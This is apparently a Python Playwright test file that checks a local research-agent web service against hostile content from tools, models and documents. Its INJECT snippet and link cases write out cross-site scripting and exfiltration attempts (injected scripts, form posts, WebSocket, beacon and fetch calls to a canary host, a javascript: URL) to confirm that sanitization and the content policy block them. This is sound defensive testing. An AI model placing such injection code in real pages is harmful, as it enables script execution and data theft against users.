"""Whatever tools, models, servers, files and links write: in no view of the page does it run, load or lead anywhere."""

import asyncio
import re
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from playwright.async_api import Browser, BrowserContext, Page, expect

from tests.browser.conftest import DESK
from tests.browser.reader import Reader
from tests.support.hostile_server import AWAY, BAIT
from tests.support.ollama_double import Model, OllamaDouble, written
from tests.support.service import running_service, stdio_entry

pytestmark = pytest.mark.browser

TITLE = BAIT[:150]
PLAN: dict[str, Any] = {
    "tasks": [
        {"id": "find", "tool": "find", "purpose": BAIT},
        {"id": "fail", "tool": "fail", "purpose": BAIT, "depends_on": ["find"]},
        {"id": "ask", "tool": "ask", "purpose": BAIT},
        {"id": "write", "tool": "write", "arguments": {BAIT[:40]: BAIT}, "purpose": BAIT},
    ]
}
ANSWER = (
    f"# {BAIT}\n\nFalcon is a bird [1]. {BAIT}\n\n```{BAIT[:30]}\n{BAIT}\n```\n\n"
    f"| {BAIT} |\n|---|\n| x |\n\n[1]: {AWAY}"
)
LOOK = """() => {
  const acts = document.querySelectorAll('iframe, object, embed, base, meta[http-equiv], img:not([src^="data:"]), '
    + 'script:not([src]), style, svg[onload], [srcdoc], [style*="url("]');
  const handlers = [...document.querySelectorAll('*')]
    .filter((each) => [...each.attributes].some(({name}) => /^on/i.test(name)));
  const links = [...document.querySelectorAll('[href], [src], [action], [formaction]')]
    .map((each) => each.getAttribute('href') ?? each.getAttribute('src') ?? each.getAttribute('action') ?? '')
    .filter((url) => !/^(https?:\\/\\/|#|\\.\\/|\\?|[\\w-]+(\\/|$|\\?|\\.)|\\/[\\w?-])/i.test(url) && url !== '');
  return {owned: window.owned ?? null, acts: acts.length, handlers: handlers.length, links};
}"""
"""What of the page could run or load something."""
OPEN = """() => {
  const closed = '[aria-expanded="false"], summary, button[data-part="steps"], button[data-part="more"]';
  for (const each of document.querySelectorAll(closed)) {
    if (each.closest('article') && each.offsetParent && !(each.parentElement.open)) each.click();
  }
}"""
INJECT = """([bait, away]) => {
  const add = (kind, given) => document.body.append(Object.assign(document.createElement(kind), given));
  add('div', { innerHTML: bait });
  add('form', { action: `${away}/form`, method: 'post', id: 'sends' });
  document.getElementById('sends').submit();
  for (const kind of ['script', 'img', 'iframe', 'video', 'audio', 'embed']) add(kind, { src: `${away}/${kind}` });
  add('link', { rel: 'stylesheet', href: `${away}/style` });
  add('script', { textContent: 'window.owned = 1' });
  try { new WebSocket(`${away.replace('http', 'ws')}/socket`); navigator.sendBeacon(`${away}/beacon`); } catch {}
  return fetch(`${away}/fetch`, { mode: 'no-cors' }).catch(() => {});
}"""
"""What somebody would do who could write into the page."""


class Watched:
    """A browser's context, of which nothing may be asked for elsewhere, and in which nothing of the bait may run."""

    def __init__(self, context: BrowserContext, url: str) -> None:
        self.wrong: list[str] = []
        self._context = context
        context.on("request", lambda asked: None if asked.url.startswith(own(url)) else self.wrong.append(asked.url))
        context.on("page", self._watch)

    def _watch(self, page: Page) -> None:
        page.on("pageerror", lambda error: self.wrong.append(str(error)))
        page.on("dialog", lambda dialog: self.wrong.append(dialog.message))
        page.on("console", lambda said: self.wrong.append(said.text) if "Security Policy" in said.text else None)

    async def check(self, page: Page, view: str) -> None:
        """Nothing has happened, and nothing stands there that could."""
        assert await page.evaluate(LOOK) == {"owned": None, "acts": 0, "handlers": 0, "links": []}, view
        assert self.wrong == [], view


def own(url: str) -> tuple[str, ...]:
    """How addresses begin that lead nowhere else."""
    return (f"{url}/", "data:image/", "blob:")


@asynccontextmanager
async def hostile_world(browser: Browser, folder: Path) -> AsyncGenerator[tuple[Reader, Watched]]:
    """The page of a service whose servers, models and documents are all hostile."""
    entry = {**stdio_entry(program="hostile_server"), "title": BAIT, "maxConcurrency": 1}  # so its question has a call
    servers = {"hostile": entry, BAIT[:60]: stdio_entry("--dies", program="hostile_server")}
    dropped = folder / "data" / "documents"
    dropped.mkdir(parents=True)
    async with (
        OllamaDouble([Model("qwen3:8b"), Model(f"{BAIT[:50]}:latest")]) as ollama,
        running_service(folder, servers=servers, ollama=ollama.url) as service,
        await browser.new_context(viewport=DESK, base_url=service.url) as context,
    ):
        watched = Watched(context, service.url)
        await service.ready_servers("hostile")
        page = await context.new_page()
        await page.goto("/")
        yield Reader(page, service, ollama), watched


async def ended_run(reader: Reader) -> str:
    """A run whose plan, results, failures, questions and answer are hostile, as it is lived through; its id."""
    reader.ollama.enqueue(*written(ANSWER))
    run_id = await reader.watch(BAIT, PLAN)
    asked = reader.page.locator(".ask")
    for what in ("asks:", "Let it run"):
        one = asked.filter(has_text=what)
        await expect(one).to_be_visible()
        await one.get_by_role("button", name=re.compile("^(Allow|Answer)$")).click()
        await expect(one).to_have_count(0)
    await reader.ended()
    return run_id


async def test_nothing_hostile_runs_loads_or_leads_away_in_any_view(browser: Browser, tmp_path: Path) -> None:
    async with hostile_world(browser, tmp_path) as (reader, watched):
        page, service = reader.page, reader.service
        await watched.check(page, "empty")
        run_id = await ended_run(reader)
        for _ in range(4):  # what is opened has more to open
            await page.evaluate(OPEN)
        await watched.check(page, "a run with all that is in it")
        for row in ("find", "fail", "ask", "write"):
            button = reader.row(row).get_by_role("button").first
            if await button.get_attribute("aria-expanded") != "true":
                await button.click()
            await expect(reader.run.get_by_role("group", name="Task").first).to_be_visible()
            await page.evaluate(OPEN)
            await watched.check(page, f"the task {row}")
        for mark in await reader.run.locator("a.citation").all():
            await mark.hover()
        await watched.check(page, "a passage")

        run = await service.report(run_id)
        assert AWAY in str(run["tasks"]) and "owned" in str(run["sources"]), "the bait was swallowed whole"
        await service.client.patch(f"/threads/{run['thread_id']}", json={"title": TITLE})
        asked = {"query": BAIT, "plan": {"tasks": [{"tool": "find"}]}}
        made = (
            await service.client.post("/schedules", json={"search": asked, "cron": "0 9 * * *", "title": TITLE})
        ).json()
        begun = (await service.client.post(f"/schedules/{made['id']}/ask")).json()
        await service.events(begun["id"])
        for name in ("History", "Standing questions"):
            await page.reload()
            await page.get_by_role("button", name=name, exact=True).click()
            await expect(page.get_by_role("dialog", name=name)).to_contain_text("onerror")
            await watched.check(page, name)
            await page.keyboard.press("Escape")
        await page.goto("/")
        await page.locator("#show-servers").click()
        await expect(page.locator("#servers")).to_contain_text("onerror")
        await watched.check(page, "servers and models")

        for way in ("print", "html"):
            export = await service.client.get(f"/runs/{run_id}/export?format={way}")
            saved = tmp_path / "saved.html"
            saved.write_text(export.text)
            await page.goto(f"/runs/{run_id}/export?format=print" if way == "print" else saved.as_uri())
            shown = await page.evaluate(LOOK)
            assert (shown["owned"], shown["handlers"], shown["links"]) == (None, 0, []), way
            watched.wrong[:] = [each for each in watched.wrong if each != saved.as_uri()]
            assert await page.locator("img, iframe, script, svg").count() == 0 and watched.wrong == [], way


async def test_no_link_to_the_service_runs_or_asks_anything(browser: Browser, tmp_path: Path) -> None:
    async with hostile_world(browser, tmp_path) as (reader, watched):
        page, bait = reader.page, quote(BAIT, safe="")
        for path in (
            f"/?thread={bait}",
            f"/#{bait}",
            f"/docs/{bait}",
            f"/sign-in?next={bait}",
            "/sign-in?next=javascript:window.owned=1",
            f"/sign-in/callback?error={bait}&state={bait}",
            f"/servers/sign-in/callback?error={bait}&error_description={bait}&state=x",
            f"/static/{bait}",
            f"/runs/{bait}",
            f"/schedules/{bait}/feed",
            "/docs/start",
            "/openapi.json",
        ):
            await page.goto(path)
            assert await page.evaluate("window.owned ?? null") is None, path
            assert await page.locator("img, iframe, svg[onload]").count() == 0 or path == "/docs/start", path
            watched.wrong[:] = [each for each in watched.wrong if "favicon" not in each]
            assert watched.wrong == [], path
        assert (await reader.service.client.get("/runs")).json()["runs"] == [], "a link asks nothing"


async def test_the_policy_holds_where_the_page_itself_would_not(browser: Browser, tmp_path: Path) -> None:
    """The second guard: were something hostile in the page, the browser would not run, load or send it."""
    asked: list[str] = []

    async def note(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append((await reader.readline()).decode())
        writer.close()

    canary = await asyncio.start_server(note, "127.0.0.1", 0)
    away = f"http://127.0.0.1:{canary.sockets[0].getsockname()[1]}"
    async with (
        canary,
        running_service(tmp_path) as service,
        await browser.new_context(base_url=service.url) as context,
    ):
        page = await context.new_page()
        for path in ("/", "/docs/start"):
            await page.goto(path)
            await page.evaluate(INJECT, [BAIT, away])
            await page.wait_for_load_state("load")
            assert await page.evaluate("window.owned ?? null") is None, path
            assert page.url == f"{service.url}{path}" and asked == [], path
        with pytest.raises(httpx.HTTPError):  # the canary sings
            await service.client.get(f"{away}/")
        assert asked
